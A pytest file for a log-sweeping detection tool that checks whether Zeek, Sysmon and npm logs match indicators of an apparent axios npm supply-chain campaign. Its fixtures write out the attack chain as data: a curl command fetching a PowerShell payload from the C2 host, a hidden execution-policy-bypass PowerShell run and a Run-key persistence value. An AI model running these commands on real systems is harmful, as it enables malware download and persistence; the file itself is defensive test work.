"""Sweeps over logs: indicators run as one-stage detections, beside the campaign's analytics."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path
from typing import Any

import pytest

import sysmon
from campaign import disk
from campaign.packs import pack
from clew.campaign.compile import compiled
from clew.campaign.load import find_pack, load_campaigns
from clew.campaign.model import Campaign
from clew.campaign.sweep.model import Evidence, Sweep
from clew.campaign.sweep.run import sweep
from clew.settings import read_settings

TIME = 1774920000.0  # 2026-03-31 01:20 UTC
WHO = {"uid": "C1", "id.orig_h": "10.1.2.3", "id.orig_p": 50000}
C2 = {**WHO, "id.resp_h": "142.11.206.73", "id.resp_p": 8000, "proto": "tcp"}
DNS = {**WHO, "id.resp_h": "10.0.0.1", "id.resp_p": 53, "proto": "udp", "qtype_name": "A"}
AGENT = "mozilla/4.0 (compatible; msie 8.0; windows nt 5.1; trident/4.0)"


@pytest.fixture(scope="module")
def axios() -> Campaign:
    return load_campaigns([find_pack("axios-2026")])[0]


def run(campaign: Campaign, *paths: Path) -> Sweep:
    return sweep(campaign, paths, read_settings({}))


def evidence(result: Sweep, use: str = "hit") -> list[Evidence]:
    return [one for place in result.places for one in place.evidence if one.use == use]


def log(path: Path, *records: dict[str, Any]) -> Path:
    return disk.put(path, "".join(json.dumps(record) + "\n" for record in records))


def zeek(kind: str, **fields: Any) -> dict[str, Any]:
    return {"_path": kind, "ts": TIME, **fields}


def test_names_flows_and_requests_on_the_wire(axios: Campaign, tmp_path: Path) -> None:
    log(
        tmp_path / "dns.log",
        zeek("dns", **DNS, query="cdn.sfrclak.com"),
        zeek("dns", **DNS | {"uid": "C2"}, query="other.test", answers=["142.11.206.73"]),
    )
    log(
        tmp_path / "conn.log",
        zeek("conn", **C2, conn_state="SF"),
        zeek("conn", **C2 | {"uid": "C3"}, conn_state="SF"),
    )
    request = {**C2, "method": "POST", "host": "sfrclak.com:8000", "uri": "/6202033", "user_agent": AGENT}
    log(tmp_path / "http.log", zeek("http", **request))
    result = run(axios, tmp_path)
    assert result.verdict == "hit"
    found = {(Path(one.path).name, one.indicator) for one in evidence(result)}
    assert found == {
        ("dns.log", "sfrclak.com"),
        ("dns.log", "142.11.206.73"),
        ("conn.log", "142.11.206.73"),
        ("http.log", "142.11.206.73"),
        ("http.log", "sfrclak.com"),
        ("http.log", "http://sfrclak.com:8000/6202033"),
    }
    assert [one.count for one in evidence(result) if one.path.endswith("conn.log")] == [2]
    assert all(one.exposed and one.position and one.trigger == "network" for one in evidence(result))
    assert [one.indicator for one in evidence(result, "lead")] == [AGENT]
    assert {"C2", "S5"} & {step.id for step in result.steps} == {"C2"}


def test_what_must_not_be_used_hits_nothing(axios: Campaign, tmp_path: Path) -> None:
    names = [one.value for one in axios.refused if one.kind == "domains"]
    addresses = [one.value for one in axios.refused if one.kind == "addresses"]
    assert len(names) >= 8 and len(addresses) >= 3
    near = ["notsfrclak.com", "sfrclak.com.example.org", "sfrclak.community"]
    log(
        tmp_path / "dns.log",
        *(zeek("dns", **DNS | {"uid": f"C{n}"}, query=name) for n, name in enumerate([*names, *near])),
    )
    log(
        tmp_path / "conn.log",
        *(
            zeek("conn", **C2 | {"uid": f"D{n}", "id.resp_h": a, "id.resp_p": p}, conn_state="SF")
            for n, (a, p) in enumerate(
                (a, p) for a in [*addresses, "142.11.206.7", "142.11.206.173"] for p in (443, 8000)
            )
        ),
    )
    digest = next(one.value for one in axios.refused if len(one.value) == 64)
    log(
        tmp_path / "sysmon.json",
        sysmon.flat(
            1,
            0,
            1,
            ProcessGuid=sysmon.guid(1),
            ProcessId=1,
            Image=r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            CommandLine="powershell",
            Hashes=f"SHA256={digest}",
        ),
    )
    for name in ("axios-http-client", "axios-wrapper", "axios-transport-layer"):
        disk.installed(tmp_path / "app", name, "2.4.1")
    result = run(axios, tmp_path)
    assert result.verdict == "not_hit"
    assert not evidence(result, "lead")


def test_a_windows_log_of_the_incident(axios: Campaign, tmp_path: Path) -> None:
    temp = r"C:\Users\kim\AppData\Local\Temp"
    wt = {"ProcessGuid": sysmon.guid(5), "ProcessId": 500, "Image": r"C:\ProgramData\wt.exe"}
    node = {"ProcessGuid": sysmon.guid(1), "ProcessId": 100, "Image": r"C:\Program Files\nodejs\node.exe"}
    folder = r"C:\work\app\node_modules\plain-crypto-js"
    run_key = r"HKU\S-1-5-21-1-2-3-1001\Software\Microsoft\Windows\CurrentVersion\Run\MicrosoftUpdate"
    curl = f'curl -s -X POST -d "packages.npm.org/product1" "http://sfrclak.com:8000/6202033" > "{temp}\\6202033.ps1"'
    records = [
        sysmon.flat(1, 0, 1, **node, CommandLine="node setup.js", CurrentDirectory=folder + "\\"),
        sysmon.flat(11, 1, 2, **node, TargetFilename=wt["Image"]),
        sysmon.flat(1, 2, 3, ProcessGuid=sysmon.guid(3), ProcessId=300, Image=r"C:\Windows\System32\cmd.exe", CommandLine=f"cmd.exe /c {curl}"),
        sysmon.flat(1, 3, 4, **wt, CommandLine=f'"{wt["Image"]}" -w hidden -ep bypass -file "{temp}\\6202033.ps1"', Hashes="SHA256=" + "AB" * 32),
        sysmon.flat(13, 4, 5, **wt, EventType="SetValue", TargetObject=run_key, Details=r"C:\ProgramData\system.bat"),
        sysmon.flat(22, 5, 6, **wt, QueryName="sfrclak.com", QueryStatus="0", QueryResults="142.11.206.73;"),
    ]  # fmt: skip
    log(tmp_path / "sysmon.json", *records)
    result = run(axios, tmp_path)
    assert result.verdict == "hit"
    kinds = {one.kind: one for one in evidence(result)}
    assert set(kinds) >= {"packages", "files", "post_bodies", "urls", "domains", "registry"}
    assert {"host", "network", "installed"} <= {one.trigger for one in evidence(result)}
    clean = [
        sysmon.flat(1, 0, 1, **node, CommandLine="node install.js", CurrentDirectory=r"C:\work\app\node_modules\crypto-js" + "\\"),
        sysmon.flat(13, 4, 5, **node, EventType="SetValue", TargetObject=run_key, Details=r"C:\Program Files\Vendor\update.exe"),
        sysmon.flat(11, 1, 2, **node, TargetFilename=r"C:\Program Files\WindowsApps\Terminal\wt.exe"),
    ]  # fmt: skip
    log(tmp_path / "sysmon.json", *clean)
    assert run(axios, tmp_path).verdict == "not_hit"


@pytest.mark.parametrize(
    ("said", "found"),
    [
        ("curl http://sfrclak.com:8000/x", {"sfrclak.com"}),
        ("nslookup cdn.sfrclak.com.", {"sfrclak.com"}),
        ("curl http://notsfrclak.com/ http://sfrclak.com.example.org/ http://sfrclak.community", set()),
        ("ping 142.11.206.73", {"142.11.206.73"}),
        ("ping 142.11.206.7 1142.11.206.73 142.11.206.731 142.11.206.73.4", set()),
        ("npm i axios@1.14.1", {"axios@1.14.1"}),
        ("npm i axios@1.14.10 my-axios@1.14.1 axios@1.14.0", set()),
        ('curl -d "packages.npm.org/product2" http://x', {"packages.npm.org/product2"}),
        ("curl http://packages.npm.org/", set()),
    ],
)
def test_command_lines(said: str, found: set[str], axios: Campaign, tmp_path: Path) -> None:
    image = r"C:\Windows\System32\cmd.exe"
    record = sysmon.flat(
        1, 0, 1, ProcessGuid=sysmon.guid(1), ProcessId=1, Image=image, CommandLine=f"cmd /c {said}"
    )
    result = run(axios, log(tmp_path / "sysmon.json", record))
    assert {one.indicator for one in evidence(result)} == found


def test_an_indicator_outside_its_time_is_a_lead(axios: Campaign, tmp_path: Path) -> None:
    record = zeek("conn", **C2, conn_state="SF") | {"ts": TIME - 90 * 86400}
    log(tmp_path / "conn.log", record)
    result = run(axios, tmp_path)
    assert result.verdict == "not_hit"
    [lead] = evidence(result, "lead")
    assert "outside the time" in lead.what and not lead.exposed


def test_a_log_that_cannot_be_read_whole(axios: Campaign, tmp_path: Path) -> None:
    path = log(tmp_path / "dns.log", zeek("dns", **DNS, query="example.org"))
    path.write_text(path.read_text() + '{"_path": "dns", "ts"')
    result = run(axios, tmp_path)
    assert result.verdict == "could_not_look"
    assert [(place.verdict, place.unread[0].position) for place in result.places if place.sort == "log"] == [
        ("could_not_look", 2)
    ]


def test_files_that_are_no_telemetry_are_passed_over(axios: Campaign, tmp_path: Path) -> None:
    disk.clean(tmp_path / "app")
    disk.put(tmp_path / "app/tsconfig.json", '{\n // a comment\n "compilerOptions": {}\n}\n')
    disk.put(tmp_path / "app/notes.txt", "nothing to see\n")
    result = run(axios, tmp_path)
    assert result.verdict == "not_hit"
    assert not [place for place in result.places if place.sort == "log"]
    named = run(axios, tmp_path / "app/notes.txt")
    assert named.verdict == "could_not_look", "a file that is named itself is a log, or cannot be read"


def test_what_the_logs_lack_is_said(axios: Campaign, tmp_path: Path) -> None:
    log(tmp_path / "dns.log", zeek("dns", **DNS, query="example.org"))
    result = run(axios, tmp_path)
    told = {gap.what: gap.why for gap in result.not_looked}
    assert "windows_registry_key_modification" in told["registry values in logs"]
    assert "domains in logs" not in told
    assert "write (file_creation)" in told["stages of AN0862"]
    assert "packages" in told


def test_values_of_one_kind_are_one_detection(tmp_path: Path) -> None:
    values = ", ".join(f"{{value: d{n}.test, about: x, confidence: high, sources: [A]}}" for n in range(300))
    campaign = load_campaigns([pack(tmp_path, domains=f"[{values}]")])[0]
    [detection] = compiled(campaign)
    assert len(detection.plan.stages[0].alternatives) < 15
    log(
        tmp_path / "logs" / "dns.log",
        zeek("dns", **DNS, query="www.d299.test"),
        zeek("dns", **DNS | {"uid": "C2"}, query="d300.test"),
    )
    assert [one.indicator for one in evidence(run(campaign, tmp_path / "logs"))] == ["d299.test"]


def test_a_lead_outside_its_time_is_nothing(axios: Campaign, tmp_path: Path) -> None:
    other = {
        **C2,
        "id.resp_h": "192.0.2.7",
        "method": "GET",
        "host": "old.test",
        "uri": "/",
        "user_agent": AGENT,
    }
    log(tmp_path / "http.log", zeek("http", **other) | {"ts": TIME - 365 * 86400})
    result = run(axios, tmp_path)
    assert result.verdict == "not_hit" and not evidence(result, "lead")


def test_logs_that_are_plain_text_are_searched_for_mentions(axios: Campaign, tmp_path: Path) -> None:
    text = (
        "12 http fetch GET 200 https://registry.npmjs.org/axios/-/axios-1.14.1.tgz 90ms (cache miss)\n"
        "13 silly reify mark plain-crypto-js@4.2.1\n"
        "14 info https://registry.npmjs.org/axios/-/axios-1.14.0.tgz axios@1.14.10 my-axios@1.14.1 notsfrclak.com\n"
        "15 info curl cdn.sfrclak.com packages.npm.org 142.11.206.73:8000 1142.11.206.73\n"
    )
    disk.put(tmp_path / "home/.npm/_logs/2026-03-31T01_30_49_000Z-debug-0.log", text)
    result = run(axios, tmp_path)
    assert result.verdict == "not_hit"
    assert [(one.position, one.indicator) for one in evidence(result, "lead")] == [
        (1, "axios@1.14.1"),
        (2, "plain-crypto-js, any version"),
        (4, "sfrclak.com"),
        (4, "142.11.206.73"),
    ]


def test_archives_with_logs_are_looked_into_and_others_are_told(axios: Campaign, tmp_path: Path) -> None:
    record = json.dumps(zeek("dns", **DNS, query="sfrclak.com")) + "\n"
    for name, member in (("logs.zip", "a/dns.log"), ("other.zip", "notes.md")):
        with zipfile.ZipFile(tmp_path / name, "w") as archive:
            archive.writestr(member, record if member.endswith(".log") else "# notes\n")
    result = run(axios, tmp_path)
    assert [one.path for one in evidence(result)] == [f"{tmp_path}/logs.zip!a/dns.log"]
    assert f"files in archives ({tmp_path}/other.zip)" in [gap.what for gap in result.not_looked]
